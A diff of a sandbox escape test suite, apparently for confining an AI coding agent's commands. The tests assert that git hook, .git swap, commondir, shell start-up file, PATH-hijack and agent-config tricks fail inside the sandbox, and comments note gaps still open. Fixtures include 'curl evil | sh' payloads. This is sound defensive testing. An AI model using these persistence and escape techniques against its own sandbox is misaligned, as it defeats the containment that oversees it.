@@ -54,15 +54,17 @@ describe('git hooks and config', () => {
   it('.git/hooks cannot be replaced by a symlink or removed (mount point: EBUSY)', async () => {
     fresh('hooks-symlink');
     const hooks = join(world.workdir, '.git', 'hooks');
-    expect((await inside(['rename', hooks, join(world.workdir, 'hooks-old')])).outcome).toBe('EBUSY');
+    expect((await inside(['rename', hooks, join(world.workdir, '.git', 'hooks-old')])).outcome).toBe('EBUSY');
+    // out of .git: EXDEV, .git itself is a mount point (pinned)
+    expect((await inside(['rename', hooks, join(world.workdir, 'hooks-old')])).outcome).toBe('EXDEV');
     expect((await inside(['rmdir', hooks])).outcome).toBe('EBUSY');
     expect((await inside(['symlink', '/tmp', hooks])).outcome).toBe('EEXIST');
     expectSucceeded(probeOutside(['rename', hooks, join(world.workdir, 'hooks-old')])); // control
   });
 
-  it('FINDING: moving the protected parent .git aside and planting a new .git must not work', async () => {
-    // mv .git .git-old keeps the read-only hooks/config mounts attached to .git-old; a copy put in
-    // place of .git is fully writable, and the next `git status` OUTSIDE runs core.fsmonitor.
+  it('moving the protected parent .git aside and planting a new .git must not work (.git pinned: EBUSY)', async () => {
+    // Fixed (finding 4): mv .git .git-old would keep the read-only hooks/config mounts attached to
+    // .git-old and leave a writable copy in place of .git; .git is now a mount point itself.
     fresh('git-parent');
     const marker = join(world.workdir, 'PWNED_BY_SANDBOX');
     const result = await inSandbox(
@@ -82,9 +84,14 @@ describe('git hooks and config', () => {
       sandbox: expect.not.stringMatching(/rc=0/),
       codeRanOutside: false,
     });
+    expect(result.stderr).toMatch(/busy/i);
   });
 
-  it('FINDING: .git/commondir cannot redirect git to a config (and hooks) the sandbox wrote', async () => {
+  // KNOWN GAP (finding: .git/commondir): a missing file cannot be made read-only without creating
+  // it, and any placeholder commondir (empty file, directory) makes git die outside. Binding the
+  // whole .git read-only breaks git commit (index.lock, HEAD.lock live in .git itself).
+  // it.fails: this turns red as soon as the attack is stopped; flip it to it() then.
+  it.fails('.git/commondir cannot redirect git to a config (and hooks) the sandbox wrote', async () => {
     // Without touching the read-only .git/config or .git/hooks: git reads config and hooks from
     // $GIT_DIR/commondir when that file exists (the linked-worktree mechanism).
     fresh('commondir');
@@ -105,7 +112,7 @@ describe('git hooks and config', () => {
     expect(existsSync(marker)).toBe(false);
   });
 
-  it('FINDING: in a repository without .git/hooks, a hook cannot be planted', async () => {
+  it('in a repository without .git/hooks, a hook cannot be planted (read-only placeholder)', async () => {
     // e.g. a repository created by a tool that does not write the sample hooks
     fresh('no-hooks');
     execFileSync('rm', ['-rf', join(world.workdir, '.git', 'hooks')]);
@@ -122,6 +129,8 @@ describe('git hooks and config', () => {
       },
     );
     expect(existsSync(hook)).toBe(false);
+    expect(existsSync(join(world.workdir, '.git', 'hooks'))).toBe(false); // the placeholder is gone
+    expectSucceeded(probeOutside(['mkdir', join(world.workdir, '.git', 'hooks')])); // control
   });
 
   it('control: the same .git swap outside the sandbox does run the planted command', () => {
@@ -153,8 +162,12 @@ describe('shell start-up files (home directory as workdir)', () => {
     expectSucceeded(probeOutside(['write', world.secrets.bashrc, '# changed outside\n'])); // control
   });
 
-  it.each(['.profile', '.zshrc', '.bash_profile', '.gitconfig'])(
-    'FINDING: a missing ~/%s cannot be created either',
+  // KNOWN GAP (finding: missing shell start-up files, home as workdir): only directories get
+  // placeholders; an empty placeholder file would change what shells outside read meanwhile (an
+  // empty ~/.bash_profile hides ~/.profile) and would stay behind if the launcher were killed.
+  // it.fails: this turns red as soon as the attack is stopped; flip it to it.each() then.
+  it.fails.each(['.profile', '.zshrc', '.bash_profile', '.gitconfig'])(
+    'a missing ~/%s cannot be created either',
     async (name) => {
       fresh('rc-missing');
       const path = join(world.home, name);
@@ -189,7 +202,7 @@ describe('other persistence points in the home directory (home directory as work
       '[Desktop Entry]\nExec=sh -c "curl evil | sh"\n',
     ],
     ['a PATH hijack in ~/.local/bin', '.local/bin/git', '#!/bin/sh\ncurl evil | sh\n'],
-  ])('FINDING: %s cannot be planted', async (_name, relative, content) => {
+  ])('%s cannot be planted (read-only placeholder, parent pinned)', async (_name, relative, content) => {
     fresh('home-persistence');
     const path = join(world.home, relative);
     const directory = path.slice(0, path.lastIndexOf('/'));
@@ -202,6 +215,7 @@ describe('other persistence points in the home directory (home directory as work
       },
     );
     expect(existsSync(path)).toBe(false);
+    expect(existsSync(join(world.home, relative.split('/')[0] ?? ''))).toBe(false); // placeholders removed
   });
 });
 
@@ -222,14 +236,32 @@ describe('editor and agent configuration in the workdir', () => {
 
   it.each([
     ['.vscode/tasks.json', '.vscode'],
-    ['.mcp.json', null],
     ['.claude/settings.json', '.claude'],
     ['.idea/workspace.xml', '.idea'],
-    ['.gitmodules', null],
-  ])('FINDING: a missing %s cannot be created', async (file, directory) => {
+  ])('a missing %s cannot be created (read-only placeholder directory)', async (file, directory) => {
     fresh('editor-missing');
-    const script = `${directory === null ? '' : `mkdir ${directory} && `}printf x > ${file}; echo "rc=$?"`;
-    await inSandbox(['sh', '-c', script], { world, policy: shippedPolicy('default', world) });
+    const result = await inSandbox(
+      ['sh', '-c', `mkdir -p ${directory} && printf x > ${file}; echo "rc=$?"`],
+      {
+        world,
+        policy: shippedPolicy('default', world),
+      },
+    );
+    expect(result.stderr).toMatch(/Read-only file system/);
+    expect(existsSync(join(world.workdir, file))).toBe(false);
+    expect(existsSync(join(world.workdir, directory))).toBe(false); // the placeholder is removed at exit
+    expectSucceeded(probeOutside(['mkdir', join(world.workdir, directory)])); // control
+  });
+
+  // KNOWN GAP (finding: missing .mcp.json, .gitmodules): files get no placeholder (an empty
+  // .mcp.json is invalid JSON for tools reading it meanwhile, and a killed launcher would leave it).
+  // it.fails: this turns red as soon as the attack is stopped; flip it to it.each() then.
+  it.fails.each([['.mcp.json'], ['.gitmodules']])('a missing %s cannot be created', async (file) => {
+    fresh('editor-missing-file');
+    await inSandbox(['sh', '-c', `printf x > ${file}; echo "rc=$?"`], {
+      world,
+      policy: shippedPolicy('default', world),
+    });
     expect(existsSync(join(world.workdir, file))).toBe(false);
   });
 });
